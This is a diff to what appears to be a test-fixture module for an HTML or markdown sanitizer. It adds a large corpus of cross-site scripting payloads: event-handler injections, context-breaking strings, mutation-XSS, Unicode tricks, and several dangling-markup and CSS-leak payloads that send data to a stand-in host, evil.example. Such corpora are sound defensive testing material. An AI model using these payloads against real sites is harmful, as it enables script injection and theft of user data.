@@ -238,22 +238,112 @@ _MARKDOWN = [
     "    <script>alert(1)</script>",
     "<div markdown=1><script>alert(1)</script></div>",
 ]
+_HANDLERS = [
+    f"<{tag} {handler}={_RUN}>"
+    for tag, handlers in {
+        "div tabindex=1 style=animation-name:x": "onanimationstart onanimationend onanimationiteration onanimationcancel",
+        "div style=transition:1s": "ontransitionend ontransitionrun ontransitionstart ontransitioncancel",
+        "div": "onpointerover onpointerrawupdate ongotpointercapture onwheel onauxclick oncontextmenu ondrop onpaste",
+        "p contenteditable": "onbeforeinput oninput onkeydown onfocusin oncompositionstart",
+        "video src=x": "oncanplay ondurationchange onloadstart onprogress onratechange onsuspend onwaiting",
+        "body": "onhashchange onpageshow onpopstate onmessage onbeforeprint onunhandledrejection onstorage onscrollend",
+        "input type=search": "onsearch oninvalid oncancel",
+        "button popovertarget=x": "onbeforetoggle onclick",
+        "details name=x open": "ontoggle",
+        "track src=x default": "oncuechange",
+        "svg": "onbegin onend onrepeat onunload",
+        "form": "onformdata onreset onsubmit",
+        "xss": "onsecuritypolicyviolation onbeforematch oncontentvisibilityautostatechange onscrollsnapchange oncommand",
+    }.items()
+    for handler in handlers.split()
+]
+_BREAKERS = [
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '"/><img src=x onerror=alert(1)>',
+    "' autofocus onfocus='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    '" style="position:fixed;inset:0;background:red',
+    "` onmouseover=`alert(1)",
+    "</h3></header></article><script>alert(1)</script>",
+    "</a><a href='javascript:alert(1)'>x</a>",
+    "</span></h3><form action=//evil.example><input name=email>",
+    "</option></select><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</script/x><svg onload=alert(1)>",
+    "<!--<script>",
+    "--><script>alert(1)</script><!--",
+    "--!><img src=x onerror=alert(1)>",
+    "]]><script>alert(1)</script>",
+    "]]></title></entry><entry><title>x</title>",
+    '","url":"javascript:alert(1)","x":"',
+    '"}</script><img src=x onerror=alert(1)>',
+    '\\"};alert(1);//',
+    "\u2028alert(1)\u2029",
+    "\u0085<img src=x onerror=alert(1)>",
+    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#34;&#62;<svg onload=alert(1)>",
+    "<img src='//evil.example/?",
+    "<a href='//evil.example/?",
+    '<form action="//evil.example"><textarea name=x>',
+    "<base target='",
+    "<meta name=referrer content=unsafe-url>",
+    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+    "<link rel=preload as=image href=//evil.example/x>",
+    "<a ping=//evil.example/ href=https://example.org/>x</a>",
+    "<img name=getElementById>",
+    "<form id=write><input name=action>",
+    "<a id=SITEURL><a id=SITEURL name=x href=//evil.example>",
+    "<div popover id=x>x</div>",
+    "<input type=image formaction=javascript:alert(1)>",
+    "<iframe sandbox=allow-scripts srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
+    "<iframe name=alert(1) src=//evil.example></iframe>",
+    "<object data='data:image/svg+xml;base64,PHN2Zz4='></object>",
+    "<fencedframe src=//evil.example></fencedframe>",
+    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
+    "<script type=importmap>{}</script>",
+    "<math><mtext></p><p><mglyph><svg><mtext><textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
+    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>",
+    "<svg><![CDATA[><img xlink:href=']]><img src=x onerror=alert(1)>//'></svg>",
+    "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>",
+    "<svg><a><rect width=9 height=9 /><animate attributeName=href values='javascript:alert(1)' /></a></svg>",
+    "<svg><image href=//evil.example/x.png /></svg>",
+    "<svg><filter><feImage xlink:href=//evil.example/x /></filter></svg>",
+    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
+    "<svg><script href=data:text/javascript,alert(1) /></svg>",
+    "<xsl:script xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>alert(1)</xsl:script>",
+    "<p xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script>",
+    "<table><tr><td><svg><desc><table><tr><td><style><a title='</style><img src=x onerror=alert(1)>'>",
+    "<ruby><rtc><svg><title><rp><style><img title='</style><img src=x onerror=alert(1)>'>",
+    "<frameset><noframes><style><img title='</noframes><img src=x onerror=alert(1)>'>",
+    "<dialog open><form method=dialog><button formaction=javascript:alert(1)>x",
+    "<<<<<<<<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)" + " " * 300 + ">",
+    "<a" + "/" * 300 + "href=javascript:alert(1)>x</a>",
+    "<a href=java\0script:alert(1)\n>x</a>",
+    "<\0script>alert(1)</\0script>",
+    "<\u200bscript>alert(1)</script>",
+    "\u202e<script>alert(1)</script>\u202c",
+    "<\ufeffscript>alert(1)</script>",
+    "\ud800<script>alert(1)</script>",
+]
 _LONG = [
     "<script>alert(1)</script>" + "[" * 1000,
     "<img src=x onerror=alert(1)>\n" * 2000,
     "[x](javascript:alert(1)) " * 900,
 ]
+_LINKS = [writing.format(scheme) for scheme in _SCHEMES for writing in _WRITINGS]
+_ENCODED = [f"[x]({quote(scheme)})" for scheme in _SCHEMES]
+_ANCHORS = [f'<a href="{html.escape(scheme)}">x</a>' for scheme in _SCHEMES]
+_BEHIND_A_HOST = [f"https://example.org/{words}" for words in [*_BREAKERS, *_FOREIGN, *_HANDLERS]]
 
-ATTACKS = tuple(
-    dict.fromkeys(
-        [
-            *_TAGS,
-            *_FOREIGN,
-            *(writing.format(scheme) for scheme in _SCHEMES for writing in _WRITINGS),
-            *(f'<a href="{html.escape(scheme)}">x</a>' for scheme in _SCHEMES),
-            *(f"[x]({quote(scheme)})" for scheme in _SCHEMES),
-            *_MARKDOWN,
-            *_LONG,
-        ]
-    )
-)
+
+def _each_once(*attacks: list[str]) -> tuple[str, ...]:
+    return tuple(dict.fromkeys(words for group in attacks for words in group))
+
+
+NAMES = _each_once(_TAGS, _FOREIGN, _HANDLERS, _BREAKERS, _SCHEMES)
+WEBSITES = _each_once(_SCHEMES, _BEHIND_A_HOST, _BREAKERS, [f"{scheme}//https://example.org/" for scheme in _SCHEMES])
+ATTACKS = _each_once(_TAGS, _FOREIGN, _HANDLERS, _BREAKERS, _LINKS, _ANCHORS, _ENCODED, _MARKDOWN, _LONG)
